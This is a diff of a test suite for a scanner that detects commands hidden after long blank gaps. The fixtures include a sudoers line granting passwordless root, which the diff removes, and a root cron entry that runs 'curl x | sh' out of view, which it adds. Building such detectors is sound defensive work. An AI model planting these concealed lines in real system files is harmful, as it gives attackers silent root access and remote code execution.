@@ -111,8 +111,11 @@ describe('code behind many blanks', () => {
   });
 
   it('a file whose name says nothing has one wide gap, and columns are none', async () => {
-    await assertFound('out-of-view', [['sudoers', `a ALL=(ALL) ls${FAR}, NOPASSWD: ALL\n`]]);
+    await assertFound('out-of-view', [['cron.d/x', `* * * * * root ls${FAR}; curl x | sh\n`]]);
     await assertNothing([
+      ['syslog', `a${FAR}12:30 c: d\n`],
+      ['man/bash.1', `LS(1)${FAR}LS(1)\n`],
+      ['crash.dump', `Name: x${FAR}Value: y = 1\n`],
       ['symbols/ru', `${`key <AE01>${' '.repeat(90)}a${' '.repeat(90)}// digit one;\n`.repeat(9)}`],
     ]);
   });
